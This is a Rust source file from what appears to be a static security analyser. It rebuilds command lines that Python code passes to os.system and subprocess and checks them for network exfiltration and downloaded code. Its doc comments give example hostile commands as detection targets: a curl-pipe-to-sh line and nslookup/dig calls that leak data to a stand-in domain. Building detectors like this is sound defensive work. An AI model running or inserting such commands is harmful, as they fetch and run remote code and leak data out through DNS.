//! Commands a Python program runs (`os.system`, `os.popen`, `subprocess.*`): the command line is
//! rebuilt as shell text and analysed by the shell front end, which knows the tools
//! (`nslookup`, `dig`, `curl`, `whoami`, `curl … | sh`). Pieces that are not constant become
//! variables `${TT_CMD_n}` that [`telltale_shell::analyze_command`] is told carry the piece's
//! data, so `subprocess.Popen(["dig", "+short", f"{data}.x.top"])` is a DNS flow of `data`.
//!
//! ```text
//! os.system("curl -s https://x.top/i | sh")      → code from the network, run
//! subprocess.getoutput("whoami")                  → prints the user name
//! os.popen(f"nslookup {h}.x.top")                 → nslookup ${TT_CMD_0}.x.top
//! ```

use crate::value::{brace_format, fstring_pieces, percent_format, FPiece, V};
use crate::{Analyzer, Binding, ScopeId};
use ruff_python_ast::{self as ast, Expr, Operator};
use ruff_text_size::Ranged;
use std::rc::Rc;
use telltale_facts::Kinds;
use telltale_knowledge::py_api::{py_api, ExecStyle};
use telltale_shell::{
    finish_marked, hole_marker, hole_var, shell_quote, ShellAnalysis, MAX_COMMAND,
};

/// What a command prints, judged from its constant skeleton.
#[derive(Clone, Debug)]
pub(crate) struct Output {
    /// Identity or region data the command prints (`whoami`).
    pub kinds: Kinds,
    /// It prints what a network tool downloaded (`curl -s URL`).
    pub network: bool,
    /// The command with `*` for the pieces not known statically.
    pub shape: Rc<str>,
}

/// A rebuilt command line and the expressions of its variable pieces.
pub(crate) struct Command<'a> {
    pub text: String,
    pub holes: Vec<&'a Expr>,
    pub shape: String,
}

impl<'a> Analyzer<'a> {
    /// The command line a call runs, if it is a command runner.
    pub(crate) fn command_of(&self, c: &'a ast::ExprCall, scope: ScopeId) -> Option<Command<'a>> {
        let path = self.path_of(&c.func, scope)?;
        let style = py_api().exec_style(&path)?;
        let mut holes = Vec::new();
        let mut marked = String::new();
        match style {
            ExecStyle::First => {
                let first = c.arguments.args.first().or_else(|| {
                    c.arguments
                        .keywords
                        .iter()
                        .find(|k| k.arg.as_ref().is_some_and(|a| a.as_str() == "args"))
                        .map(|k| &k.value)
                })?;
                match self.list_items(first, scope) {
                    Some((items, s)) => self.words(items, s, &mut marked, &mut holes),
                    None => self.piece(first, scope, &mut marked, &mut holes, 0),
                }
            }
            ExecStyle::Argv => {
                // `os.execlp(file, arg0, …)`, `os.spawnlp(mode, file, arg0, …)`: the words
                // after the file (numbers are modes).
                let words: Vec<&'a Expr> = c
                    .arguments
                    .args
                    .iter()
                    .filter(|a| !matches!(a, Expr::NumberLiteral(_)))
                    .skip(1)
                    .collect();
                self.words(words, scope, &mut marked, &mut holes);
            }
        }
        if marked.len() > MAX_COMMAND {
            return None;
        }
        let (text, shape) = finish_marked(&marked);
        Some(Command { text, holes, shape })
    }

    /// The items of a list or tuple written in place or assigned once to a name.
    pub(crate) fn list_items(
        &self,
        e: &'a Expr,
        scope: ScopeId,
    ) -> Option<(Vec<&'a Expr>, ScopeId)> {
        match e {
            Expr::List(l) => Some((l.elts.iter().collect(), scope)),
            Expr::Tuple(t) => Some((t.elts.iter().collect(), scope)),
            Expr::Name(_) => match self.var_of(e, scope).map(|v| self.bindings_of(v)) {
                Some(
                    [Binding::Assign {
                        value, scope: s, ..
                    }],
                ) => self.list_items(value, *s),
                _ => None,
            },
            _ => None,
        }
    }

    fn words(
        &self,
        items: Vec<&'a Expr>,
        scope: ScopeId,
        marked: &mut String,
        holes: &mut Vec<&'a Expr>,
    ) {
        for (i, w) in items.into_iter().enumerate() {
            if i > 0 {
                marked.push(' ');
            }
            match self.value_of(w, scope).and_then(|v| v.text()) {
                Some(t) => marked.push_str(&shell_quote(&t)),
                None => {
                    marked.push('"');
                    self.piece(w, scope, marked, holes, 0);
                    marked.push('"');
                }
            }
        }
    }

    fn hole(&self, e: &'a Expr, marked: &mut String, holes: &mut Vec<&'a Expr>) {
        marked.push_str(&hole_marker(holes.len()));
        holes.push(e);
    }

    /// Command text of one expression: constants as written, the rest as marked holes.
    fn piece(
        &self,
        e: &'a Expr,
        scope: ScopeId,
        marked: &mut String,
        holes: &mut Vec<&'a Expr>,
        depth: u32,
    ) {
        if depth > 16 || marked.len() > MAX_COMMAND {
            return self.hole(e, marked, holes);
        }
        if let Some(t) = self.value_of(e, scope).and_then(|v| v.text()) {
            marked.push_str(&t);
            return;
        }
        let d = depth + 1;
        match e {
            Expr::FString(f) => {
                for p in fstring_pieces(f) {
                    match p {
                        FPiece::Text(t) => marked.push_str(t),
                        FPiece::Value(i) => self.piece(&i.expression, scope, marked, holes, d),
                    }
                }
            }
            Expr::BinOp(b) if b.op == Operator::Add => {
                self.piece(&b.left, scope, marked, holes, d);
                self.piece(&b.right, scope, marked, holes, d);
            }
            Expr::BinOp(b) if b.op == Operator::Mod => {
                let Some(fmt) = self.value_of(&b.left, scope).and_then(|v| v.text()) else {
                    return self.hole(e, marked, holes);
                };
                let args: Vec<&'a Expr> = match &*b.right {
                    Expr::Tuple(t) => t.elts.iter().collect(),
                    x => vec![x],
                };
                let texts: Vec<V> = args
                    .iter()
                    .map(|a| V::Str(self.sub_piece(a, scope, holes, d)))
                    .collect();
                match percent_format(&fmt.replace("%d", "%s").replace("%x", "%s"), &texts) {
                    Some(t) => marked.push_str(&t),
                    None => self.hole(e, marked, holes),
                }
            }
            Expr::Call(c) if matches!(&*c.func, Expr::Attribute(a) if a.attr.as_str() == "format") =>
            {
                let Expr::Attribute(a) = &*c.func else { return };
                let Some(fmt) = self.value_of(&a.value, scope).and_then(|v| v.text()) else {
                    return self.hole(e, marked, holes);
                };
                let texts: Vec<String> = c
                    .arguments
                    .args
                    .iter()
                    .map(|x| self.sub_piece(x, scope, holes, d))
                    .collect();
                let named: Vec<(String, String)> = c
                    .arguments
                    .keywords
                    .iter()
                    .filter_map(|k| {
                        Some((
                            k.arg.as_ref()?.as_str().to_string(),
                            self.sub_piece(&k.value, scope, holes, d),
                        ))
                    })
                    .collect();
                match brace_format(&fmt, &texts, &named) {
                    Some(t) => marked.push_str(&t),
                    None => self.hole(e, marked, holes),
                }
            }
            Expr::Name(_) => match self.var_of(e, scope).map(|v| self.bindings_of(v)) {
                Some(
                    [Binding::Assign {
                        value, scope: s, ..
                    }],
                ) => self.piece(value, *s, marked, holes, d),
                _ => self.hole(e, marked, holes),
            },
            _ => self.hole(e, marked, holes),
        }
    }

    fn sub_piece(&self, e: &'a Expr, scope: ScopeId, holes: &mut Vec<&'a Expr>, d: u32) -> String {
        let mut s = String::new();
        self.piece(e, scope, &mut s, holes, d);
        s
    }

    /// What a command prints, from its constant skeleton (memoized: asked during the
    /// fixpoint, before the data of its pieces is known).
    pub(crate) fn command_output(&self, c: &'a ast::ExprCall, scope: ScopeId) -> Output {
        let key = c.range().start().to_u32();
        if let Some(o) = self.command_memo.borrow().get(&key) {
            return o.clone();
        }
        let out = match self.command_of(c, scope) {
            Some(cmd) => {
                let inputs: Vec<(String, Kinds)> = (0..cmd.holes.len())
                    .map(|i| (hole_var(i), Kinds::EMPTY))
                    .collect();
                let sa =
                    telltale_shell::analyze_command(&cmd.text, crate::span_of(c.range()), &inputs);
                Output {
                    kinds: sa.output,
                    network: sa.output_from.is_some(),
                    shape: Rc::from(cmd.shape.as_str()),
                }
            }
            None => Output {
                kinds: Kinds::EMPTY,
                network: false,
                shape: Rc::from("*"),
            },
        };
        self.command_memo.borrow_mut().insert(key, out.clone());
        out
    }

    /// The shell analysis of a command with the data its pieces carry (after the fixpoint).
    pub(crate) fn command_analysis(
        &self,
        c: &'a ast::ExprCall,
        scope: ScopeId,
    ) -> Option<(ShellAnalysis, Command<'a>)> {
        let cmd = self.command_of(c, scope)?;
        let inputs: Vec<(String, Kinds)> = cmd
            .holes
            .iter()
            .enumerate()
            .map(|(i, h)| (hole_var(i), self.kinds_of(h, scope)))
            .collect();
        let sa = telltale_shell::analyze_command(&cmd.text, crate::span_of(c.range()), &inputs);
        Some((sa, cmd))
    }
}
